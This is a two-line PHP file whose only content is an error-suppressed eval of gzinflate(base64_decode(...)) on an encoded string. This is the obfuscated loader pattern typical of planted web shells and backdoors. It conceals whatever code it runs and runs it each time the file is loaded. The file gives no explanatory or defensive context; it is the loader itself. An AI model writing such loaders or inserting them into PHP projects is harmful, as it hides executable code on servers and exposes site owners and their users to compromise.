<?php
@eval(gzinflate(base64_decode('y0zTyCwuTi3RUIkP8A8OiVZPVo/V1KwuriwuSc1FEbSuBQA=')));
